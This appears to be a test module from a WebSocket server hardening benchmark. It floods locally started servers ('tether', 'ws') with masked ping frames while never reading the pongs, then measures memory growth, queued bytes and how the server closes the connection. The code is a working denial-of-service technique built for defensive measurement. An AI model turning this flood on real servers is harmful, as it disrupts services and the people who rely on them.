// Ping flood: one client sends masked pings with 125-byte payloads as fast as the server
// takes them and never reads, so every pong the server owes stays with the server. The
// socket is paused once the 101 is in, so the kernel's receive buffer stays at its
// initial size (Node cannot set SO_RCVBUF on a TCP socket; without reads the kernel
// does not grow it). Stops at the byte cap, the time cap, a stall (the server stopped
// reading), or when the server closes the connection. Then reads what was queued for a
// moment, to find a close frame behind the pongs.
import { randomBytes } from 'node:crypto'

import { againstTarget, delay, whenTrue, describeCloses, mib, OPCODE, rawUpgrade, repeatFrames, sampleMemory, serversFor, size, thin, watchSocket, writeWithBackpressure } from '../lib.mjs'

export const name = 'ping-flood'
export const title = 'ping flood, never reading'

const SETTINGS = {
  long: { cap: 1024 * 1024 * 1024, maxMs: 180_000, stallMs: 10_000, drainMs: 3_000, settleMs: 2_000 },
  quick: { cap: 128 * 1024 * 1024, maxMs: 30_000, stallMs: 5_000, drainMs: 1_000, settleMs: 500 },
}
const SERVERS = [
  ['tether', 'port'],
  ['tether', 'server'],
  ['ws', 'port'],
]
/** Pings per write: about 1 MiB. */
const PINGS_PER_WRITE = 8192

export async function run({ quick, targets }) {
  const settings = quick ? SETTINGS.quick : SETTINGS.long
  const rows = []
  for (const [impl, mode] of serversFor(SERVERS, targets)) {
    rows.push({ attack: name, variant: `125-byte pings up to ${size(settings.cap)}`, ...(await againstTarget(impl, mode, {}, (server, before) => flood(server, before, settings))) })
  }
  return rows
}

async function flood(server, before, { cap, maxMs, stallMs, drainMs, settleMs }) {
  const memory = sampleMemory(server.pid)
  const { socket, status, rest, requestBytes } = await rawUpgrade(server.port, { path: '/ping-flood' })
  if (status !== 101) {
    socket.destroy()
    return { outcome: `upgrade refused: ${status}`, rss: { before, peak: memory.stop().peak, after: server.rss() } }
  }
  const pings = repeatFrames(PINGS_PER_WRITE, { opcode: OPCODE.ping, payload: randomBytes(125) })
  const started = performance.now()
  const startedAt = Date.now()
  let attackerSaw
  let leaving = false
  socket.on('error', (error) => leaving || (attackerSaw ??= { how: `error ${error.code ?? error.message}`, ms: performance.now() - started, bytes: socket.bytesWritten }))
  socket.once('close', () => leaving || (attackerSaw ??= { how: 'socket closed', ms: performance.now() - started, bytes: socket.bytesWritten }))
  const serverClosed = () => server.control.events.some((e) => e.event === 'close')
  const closing = whenTrue(serverClosed)
  // Bytes handed to the socket over time, to say how far in the server closed.
  const progress = [[startedAt, 0]]
  let stopReason = 'byte cap'
  for (;;) {
    const flooded = socket.bytesWritten - requestBytes
    progress.push([Date.now(), flooded])
    memory.mark({ sent: flooded })
    if (flooded >= cap) break
    if (performance.now() - started > maxMs) {
      stopReason = 'time cap'
      break
    }
    if (attackerSaw) {
      stopReason = attackerSaw.how
      break
    }
    if (serverClosed()) {
      stopReason = 'the server closed the connection'
      break
    }
    // A server that closes and stops reading leaves the write waiting: its report ends the wait.
    const written = await Promise.race([writeWithBackpressure(socket, pings, stallMs), closing.promise])
    if (serverClosed()) {
      stopReason = 'the server closed the connection'
      break
    }
    if (written === false) {
      stopReason = attackerSaw?.how ?? `stalled: no drain for ${stallMs / 1000} s`
      break
    }
  }
  closing.stop()
  const floodMs = performance.now() - started
  const bytesSent = socket.bytesWritten
  // What the server holds for this peer while it is still connected.
  const during = await server.stats(10_000)
  // Read what the server queued for a moment: pongs, maybe a close frame behind them.
  const watch = watchSocket(socket, rest, { hash: false })
  await Promise.race([watch.done, delay(drainMs)])
  leaving = true
  const leftAt = Date.now()
  socket.destroy()
  const { peak, samples } = memory.stop()
  const settled = await server.settle(settleMs)
  // A close the server reported before the attacker left (not the one its leaving caused).
  const closeEvent = server.control.events.find((e) => e.event === 'close' && e.at < leftAt)
  // At most this much had been handed to the socket when the server closed.
  const closedAtBytes = closeEvent ? (progress.find(([t]) => t >= closeEvent.at)?.[1] ?? bytesSent) : undefined
  const outcome = closeEvent
    ? `server closed it after ${(closeEvent.lifetimeMs / 1000).toFixed(1)} s, within the first ${size(attackerSaw?.bytes ?? closedAtBytes)} sent, code ${closeEvent.code}${closeEvent.reason ? ` "${closeEvent.reason}"` : ''}${watch.reader.close ? `, close frame ${watch.reader.close.code} sent` : ''}${attackerSaw ? ` (attacker: ${attackerSaw.how})` : ''}`
    : `still open at ${stopReason} (${size(bytesSent)} in ${(floodMs / 1000).toFixed(1)} s), ${mib(during?.buffered)} queued for the peer`
  return {
    rss: { before, peak, after: settled.rss },
    attackerBytes: bytesSent,
    outcome,
    measures: {
      growth: peak - before,
      retained: settled.rss - before,
      // What waited to be written to the attacker while it did not read (at most one pong, RFC 6455 §5.5.3).
      queued: during?.buffered,
      bytesSent,
      floodMs: Math.round(floodMs),
      stopReason,
      serverClosed: closeEvent !== undefined,
      closeEvent,
      closedAtBytes,
      attackerSaw,
      bufferedAtEnd: during?.buffered,
      drained: { bytes: watch.reader.bytes, frames: watch.reader.frames, close: watch.reader.close },
      serverStats: settled.stats,
      closes: describeCloses(settled.stats),
      samples: thin(samples),
    },
  }
}
